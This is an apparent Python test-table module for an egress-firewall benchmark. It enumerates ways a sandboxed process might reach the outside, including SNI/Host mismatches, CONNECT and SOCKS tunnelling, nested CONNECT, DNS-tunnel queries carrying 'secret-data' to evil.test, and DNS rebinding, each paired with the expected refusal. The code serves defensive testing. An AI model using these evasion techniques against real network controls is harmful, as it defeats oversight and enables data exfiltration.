"""`saggar bench egress`: the attempts by name, each a few bytes from inside a cell and the one answer that is right.

An attempt has a channel; the channel's control is the same exchange with a listed name, which must reach the upstream:
so a refusal is the wall's doing and not the fault of the tools.
"""

from __future__ import annotations

from dataclasses import dataclass

from saggar.bench.egress import tables
from saggar.egress.alerts import ACCESS_DENIED
from saggar.testing import client_hello as h

ELSEWHERE = "203.0.113.9"
PROXY = ("198.19.255.53", 3128)
RESOLVER = ("198.19.255.53", 53)
#: of `api.allowed.test`, the first rule
LISTED = "198.18.1.0"

_GREETING = b"\5\1\0"


@dataclass(frozen=True, slots=True)
class Attempt:
    """One way out. to: where the socket connects to. sends: what it writes, piece by piece; each but the first waits for an
    answer. wants: the answer, as `prefix:HEX`, `errno:N`, `reset`, `dns:RCODE` or `no-200`. reason: of the audit record.
    respond: what the upstream answers with, where the attack is the upstream's."""

    name: str
    row: str
    channel: str
    to: tuple[str, int]
    sends: tuple[bytes, ...]
    wants: str
    reason: str
    udp: bool = False
    respond: bytes = b""


@dataclass(frozen=True, slots=True)
class Resolution:
    """A listed name that resolves outside to what must not be dialled."""

    name: str
    row: str
    answers: tuple[tuple[str, ...], ...]
    reason: str
    cause: str


def _prefix(data: bytes) -> str:
    return "prefix:" + data.hex()


def _status(code: int) -> str:
    return _prefix(b"HTTP/1.1 %d " % code)


_ALERT = _prefix(ACCESS_DENIED)
_ESTABLISHED = b"HTTP/1.1 200 Connection established\r\n\r\n"


def _socks(name: bytes, port: int = 443, *, command: int = 1, kind: int = 3) -> bytes:
    return bytes((5, command, 0, kind, len(name))) + name + port.to_bytes(2, "big")


def dns_query(name: bytes, kind: int) -> bytes:
    labels = b"".join(bytes([len(p)]) + p for p in name.split(b".")) + b"\0"
    return b"\x12\x34\1\0\0\1\0\0\0\0\0\0" + labels + kind.to_bytes(2, "big") + b"\0\1"


def _shown(name: bytes) -> str:
    text = name.decode("utf-8", "backslashreplace")
    return ascii(text if len(text) < 40 else f"{text[:20]}…({len(text)})")[1:-1]


def _names() -> list[Attempt]:
    found = []
    for name, (reason, status) in tables.BAD_NAMES.items():
        shown = _shown(name)
        row = "1-9"
        found += [
            Attempt(f"sni {shown}", row, "sni", (ELSEWHERE, 443), (h.hello(name),), _ALERT, reason),
            Attempt(
                f"connect {shown}",
                row,
                "connect",
                PROXY,
                (b"CONNECT " + name + b":443 HTTP/1.1\r\n\r\n",),
                _status(status),
                reason,
            ),
            Attempt(
                f"host {shown}",
                row,
                "http",
                (ELSEWHERE, 80),
                (b"GET / HTTP/1.1\r\nHost: " + name + b"\r\n\r\n",),
                _status(status),
                "malformed_request" if b"\0" in name else reason,
            ),
            Attempt(
                f"absolute form {shown}",
                row,
                "absolute",
                PROXY,
                (b"GET http://" + name + b"/ HTTP/1.1\r\nHost: " + name + b"\r\n\r\n",),
                "no-200",
                "",
            ),
        ]
        if len(name) < 256:
            code = b"\x08" if reason == "ip_literal" else b"\x02"
            found.append(
                Attempt(
                    f"socks {shown}", row, "socks", PROXY, (_GREETING, _socks(name)), _prefix(b"\5\0\5" + code), reason
                )
            )
        if reason == "host_not_listed":
            query = (dns_query(name, 1),)
            found.append(Attempt(f"dns {shown}", row, "dns", RESOLVER, query, "dns:3", reason, udp=True))
    return found


def _transport() -> list[Attempt]:
    found = []
    for port in (22, 25, 53, 853, 3306, 5432, 8443, 65535):
        for address in ("192.0.2.1", LISTED, "2001:db8::1"):
            name = f"tcp {address} port {port}"
            found.append(Attempt(name, "22", "tcp", (address, port), (b"x",), "errno:111", "port_not_listed"))
    for address, port in (
        ("192.0.2.1", 443),
        ("192.0.2.1", 53),
        (LISTED, 443),
        ("2001:db8::1", 443),
        ("192.0.2.1", 123),
    ):
        name = f"udp {address} port {port}"
        found.append(Attempt(name, "23", "udp", (address, port), (b"x",), "errno:111", "protocol_refused", udp=True))
    for kind, number in tables.DNS_TYPES.items():
        sends = (dns_query(b"secret-data.evil.test", number),)
        found.append(Attempt(f"dns tunnel by {kind}", "24", "dns", RESOLVER, sends, "dns:3", "", udp=True))
    for port in (443, 80):
        for what, data in (
            ("ssh", b"SSH-2.0-x\r\n"),
            ("smtp", b"EHLO a.test\r\n"),
            ("zeros", b"\0\0\0\0"),
            ("tls data first", b"\x17\x03\x03\0\1x"),
            ("lower-case http", b"get / http/1.1\r\n\r\n"),
        ):
            sends = (data,)
            found.append(
                Attempt(f"{what} on port {port}", "29", "sni", (ELSEWHERE, port), sends, "reset", "unknown_protocol")
            )
    for port in (22, 8443, 53, 3128):
        sends = (b"CONNECT api.allowed.test:%d HTTP/1.1\r\n\r\n" % port,)
        name = f"connect to port {port} of a listed host"
        found.append(Attempt(name, "26", "connect", PROXY, sends, _status(403), "port_not_listed"))
    return found


def _tls() -> list[Attempt]:
    connect = b"CONNECT api.allowed.test:443 HTTP/1.1\r\n\r\n"
    inside = _prefix(_ESTABLISHED + ACCESS_DENIED)
    socks = _prefix(b"\5\0" + b"\5\0\0\1\0\0\0\0\0\0" + ACCESS_DENIED)
    listed = b"api.allowed.test"
    return [
        Attempt("no name", "20", "sni", (ELSEWHERE, 443), (h.hello(None),), _ALERT, "no_name"),
        Attempt("no name at a listed address", "20", "sni", (LISTED, 443), (h.hello(None),), _ALERT, "no_name"),
        Attempt(
            "connect a, name b", "30", "connect", PROXY, (connect, h.hello(b"b.allowed.test")), inside, "name_mismatch"
        ),
        Attempt(
            "connect a, name evil", "30", "connect", PROXY, (connect, h.hello(b"evil.test")), inside, "host_not_listed"
        ),
        Attempt("connect a, no name", "30", "connect", PROXY, (connect, h.hello(None)), inside, "no_name"),
        Attempt(
            "socks a, name b",
            "30",
            "socks",
            PROXY,
            (_GREETING, _socks(listed), h.hello(b"b.allowed.test")),
            socks,
            "name_mismatch",
        ),
        Attempt(
            "address of a, name b", "30", "sni", (LISTED, 443), (h.hello(b"b.allowed.test"),), _ALERT, "name_mismatch"
        ),
        Attempt("encrypted hello", "31", "sni", (ELSEWHERE, 443), (h.hello(listed, h.ECH),), _ALERT, "ech_unreadable"),
    ]


def _hellos() -> list[Attempt]:
    """Those that say nothing, or two things, and those in pieces."""
    listed = b"api.allowed.test"
    broken = {
        "two names": h.body(h.sni(listed, b"evil.test")),
        "two name extensions": h.body(h.sni(listed), h.sni(b"evil.test")),
        "a name of another type": h.body(h.sni(listed, kind=7)),
        "bytes behind the extensions": h.body(h.sni(listed), tail=b"x"),
        "an empty name": h.body(h.sni(b"")),
    }
    return [
        *(
            Attempt(
                f"hello with {what}",
                "32",
                "sni",
                (ELSEWHERE, 443),
                (h.records(h.message(b)),),
                _ALERT,
                "malformed_hello",
            )
            for what, b in broken.items()
        ),
        *(
            Attempt(
                f"hello in records of {size}",
                "32",
                "sni",
                (ELSEWHERE, 443),
                (h.hello(b"evil.test", size=size),),
                _ALERT,
                "host_not_listed",
            )
            for size in (1, 7, 100)
        ),
    ]


def _socks_requests() -> list[Attempt]:
    listed = b"api.allowed.test"
    return [
        Attempt(
            "socks bind",
            "22",
            "socks",
            PROXY,
            (_GREETING, _socks(listed, command=2)),
            _prefix(b"\5\0\5\7"),
            "method_refused",
        ),
        Attempt(
            "socks udp",
            "23",
            "socks",
            PROXY,
            (_GREETING, _socks(listed, command=3)),
            _prefix(b"\5\0\5\7"),
            "method_refused",
        ),
        Attempt(
            "socks to an address",
            "8",
            "socks",
            PROXY,
            (_GREETING, b"\5\1\0\1\x7f\0\0\1\1\xbb"),
            _prefix(b"\5\0\5\x08"),
            "ip_literal",
        ),
    ]


def _http() -> list[Attempt]:
    connect = b"CONNECT api.allowed.test:443 HTTP/1.1\r\n\r\n"
    nested = b"CONNECT evil.test:443 HTTP/1.1\r\nHost: api.allowed.test:443\r\n\r\n"
    post = b"POST / HTTP/1.1\r\n" + tables.HOST + b"Transfer-Encoding: chunked\r\n\r\n"
    found = [
        Attempt(name, name.partition(" ")[0], "http", (ELSEWHERE, 80), (data,), _status(status), reason)
        for name, (data, status, reason) in tables.BAD_HTTP.items()
    ]
    found += [
        Attempt(
            "connect inside connect",
            "27",
            "connect",
            PROXY,
            (connect, nested),
            _prefix(_ESTABLISHED + b"HTTP/1.1 405 "),
            "method_refused",
        ),
        Attempt(
            "host b at the address of a",
            "36",
            "http",
            (LISTED, 80),
            (b"GET / HTTP/1.1\r\nHost: b.allowed.test\r\n\r\n",),
            _status(421),
            "name_mismatch",
        ),
    ]
    found += [
        Attempt(
            f"38 chunks {chunks[:12]!r}", "38", "http-body", (ELSEWHERE, 80), (post + chunks,), "no-200", "bad_framing"
        )
        for chunks in tables.BAD_CHUNKS
    ]
    get = b"GET / HTTP/1.1\r\n" + tables.HOST + b"\r\n"
    found += [
        Attempt(
            f"46 response with {what}",
            "46",
            "response",
            (ELSEWHERE, 80),
            (get,),
            "no-200",
            "bad_response",
            respond=data,
        )
        for what, data in tables.BAD_RESPONSES.items()
    ]
    return found


ATTEMPTS: tuple[Attempt, ...] = (*_names(), *_transport(), *_tls(), *_hellos(), *_socks_requests(), *_http())

RESOLUTIONS: tuple[Resolution, ...] = (
    *(
        Resolution(f"resolves to {address}", "12-13", ((address,),), "address_refused", cause)
        for address, cause in tables.RESOLVED.items()
    ),
    Resolution(
        "resolves to a good and a bad one", "14", (("203.0.113.5", "127.0.0.1"),), "address_refused", "loopback"
    ),
    Resolution("resolves to a bad and a good one", "14", (("10.0.0.1", "203.0.113.5"),), "address_refused", "private"),
    Resolution("rebinds", "15", (("203.0.113.5",), ("127.0.0.1",)), "unreachable", ""),
)

#: channel -> an exchange that must reach the upstream: (to, sends)
CONTROLS: dict[str, tuple[tuple[str, int], tuple[bytes, ...]]] = {
    "sni": ((ELSEWHERE, 443), (h.hello(),)),
    "connect": (PROXY, (b"CONNECT api.allowed.test:443 HTTP/1.1\r\n\r\n", h.hello())),
    "socks": (PROXY, (_GREETING, _socks(b"api.allowed.test"), h.hello())),
    "http": ((ELSEWHERE, 80), (b"GET / HTTP/1.1\r\n" + tables.HOST + b"Connection: close\r\n\r\n",)),
    "absolute": (
        PROXY,
        (b"GET http://api.allowed.test/ HTTP/1.1\r\n" + tables.HOST + b"Connection: close\r\n\r\n",),
    ),
    "http-body": (
        (ELSEWHERE, 80),
        (
            b"POST / HTTP/1.1\r\n" + tables.HOST + b"Transfer-Encoding: chunked\r\nConnection: close\r\n\r\n"
            b"5\r\nabcde\r\n0\r\n\r\n",
        ),
    ),
    "response": ((ELSEWHERE, 80), (b"GET / HTTP/1.1\r\n" + tables.HOST + b"Connection: close\r\n\r\n",)),
    "tcp": ((LISTED, 8080), (b"GET / HTTP/1.1\r\nHost: api.allowed.test:8080\r\nConnection: close\r\n\r\n",)),
}
